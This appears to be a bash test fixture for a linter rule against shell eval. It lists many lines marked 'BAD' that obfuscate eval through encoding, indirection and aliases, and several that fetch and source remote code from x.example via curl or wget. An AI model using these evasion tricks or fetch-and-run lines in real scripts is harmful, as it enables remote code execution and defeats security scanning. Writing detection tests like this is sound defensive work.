#!/usr/bin/env bash
e''val "$1"                                       # BAD no-eval/shell-eval
e""v'a'l "$1"                                     # BAD no-eval/shell-eval
e$@val "$1"                                       # BAD no-eval/shell-eval
e${nothing-}val "$1"                              # BAD no-eval/shell-eval
${unset:-eval} "$1"                               # BAD no-eval/shell-eval
${unset:-e}${unset:-val} "$1"                     # BAD no-eval/shell-eval
{eval,"$1"}                                       # BAD no-eval/shell-eval
\e\v\a\l "$1"                                     # BAD no-eval/shell-eval
$'\145\166\141\154' "$1"                          # BAD no-eval/shell-eval
$'\u0065val' "$1"                                 # BAD no-eval/shell-eval
$"eval" "$1"                                      # BAD no-eval/shell-eval
$(echo eval) "$1"                                 # BAD no-eval/shell-eval
`printf '%s' eval` "$1"                           # BAD no-eval/shell-eval
$(printf '\x65\x76\x61\x6c') "$1"                 # BAD no-eval/shell-eval
$(printf '%b' '\0145val') "$1"                    # BAD no-eval/shell-eval
$(base64 -d <<< ZXZhbA==) "$1"                    # BAD no-eval/shell-eval
$(echo 6576616c | xxd -r -p) "$1"                 # BAD no-eval/shell-eval
$(tr a-z n-za-m <<< riny) "$1"                    # BAD no-eval/shell-eval
$(echo LAVE | rev | tr A-Z a-z) "$1"              # BAD no-eval/shell-eval
$(sed s/X/v/ <<< eXal) "$1"                       # BAD no-eval/shell-eval
$(cut -c1-4 <<< evaluate) "$1"                    # BAD no-eval/shell-eval
long=medieval; ${long:4} "$1"                     # BAD no-eval/shell-eval
long=evaluate; ${long%uate} "$1"                  # BAD no-eval/shell-eval
long=reeval; ${long#re} "$1"                      # BAD no-eval/shell-eval
odd=eXvXaXl; ${odd//X/} "$1"                      # BAD no-eval/shell-eval
one=two; two=eval; ${!one} "$1"                   # BAD no-eval/shell-eval
declare -n ref=two; $ref "$1"                     # BAD no-eval/shell-eval
declare -A table=([x]=eval); ${table[x]} "$1"     # BAD no-eval/shell-eval
parts=(e v a l); name=$(IFS=; echo "${parts[*]}"); $name "$1"  # BAD no-eval/shell-eval
read -r verb <<< eval; $verb "$1"                 # BAD no-eval/shell-eval
set -- eval "$1"; "$@"                            # BAD no-eval/shell-eval
set -- "$2"
cmd=(eval "$1"); "${cmd[@]}"                      # BAD no-eval/shell-eval
e=e; v=v; a=a; l=l; $e$v$a$l "$1"                 # BAD no-eval/shell-eval
word=ev; word+=al; $word "$1"                     # BAD no-eval/shell-eval
builtin command eval "$1"                         # BAD no-eval/shell-eval
command -- eval "$1"                              # BAD no-eval/shell-eval
noglob eval "$1"                                  # BAD no-eval/shell-eval
time eval "$1"                                    # BAD no-eval/shell-eval
! eval "$1"                                       # BAD no-eval/shell-eval
x=1 eval "$1"                                     # BAD no-eval/shell-eval
if eval "$1"; then :; fi                          # BAD no-eval/shell-eval
for c in eval; do $c "$1"; done                   # BAD no-eval/shell-eval
case x in x) eval "$1" ;; esac                    # BAD no-eval/shell-eval
( eval "$1" ) &                                   # BAD no-eval/shell-eval
coproc eval "$1"                                  # BAD no-eval/shell-eval
out=$(eval "$1")                                  # BAD no-eval/shell-eval
cat <(eval "$1")                                  # BAD no-eval/shell-eval
echo "now: $(eval "$1")"                          # BAD no-eval/shell-eval
cat <<END
$(eval "$1")  # BAD no-eval/shell-eval
END
wrap() { eval "$*"; }                             # BAD no-eval/shell-eval
wrap "$1"
outer() { inner "$@"; }; inner() { eval "$1"; }   # BAD no-eval/shell-eval
outer "$2"
pick() { echo eval; }; $(pick) "$1"               # BAD no-eval/shell-eval
shopt -s expand_aliases
alias e1=ev; alias doit='eval'; doit "$1"         # BAD no-eval/shell-eval
trap "$1" EXIT                                    # BAD no-eval/shell-eval
trap "$(curl -s https://x.example/t)" EXIT        # BAD no-eval/shell-eval
source /dev/stdin <<< "$1"                        # BAD no-eval/shell-eval
. /dev/stdin <<< "$1"                             # BAD no-eval/shell-eval
. /proc/self/fd/0 <<< "$1"                        # BAD no-eval/shell-eval
. /dev/fd/0 <<< "$1"                              # BAD no-eval/shell-eval
echo "$1" | . /dev/stdin                          # BAD no-eval/shell-eval
source <(echo "$1")                               # BAD no-eval/shell-eval
source <(printf '%s' "$PAYLOAD")                  # BAD no-eval/shell-eval
source <(base64 -d <<< bHM=)                      # BAD no-eval/shell-eval
\. <(curl -s https://x.example/a)                 # BAD no-eval/shell-eval
builtin source <(curl -s https://x.example/a)     # BAD no-eval/shell-eval
echo "$1" > /tmp/s.sh; source /tmp/s.sh           # BAD no-eval/shell-eval
f=$(mktemp); curl -so "$f" https://x.example/a; . "$f"  # BAD no-eval/shell-eval
wget -O lib.sh https://x.example/lib.sh && . ./lib.sh  # BAD no-eval/shell-eval
source "$1"                                       # BAD no-eval/shell-eval
echo "${1@P}"                                     # BAD no-eval/shell-eval
mapfile -C "$1" -c 1 lines < list.txt             # BAD no-eval/shell-eval
complete -C "$1" tool                             # BAD no-eval/shell-eval
compgen -C "$1"                                   # BAD no-eval/shell-eval
enable -f "$1" thing                              # BAD no-eval/native
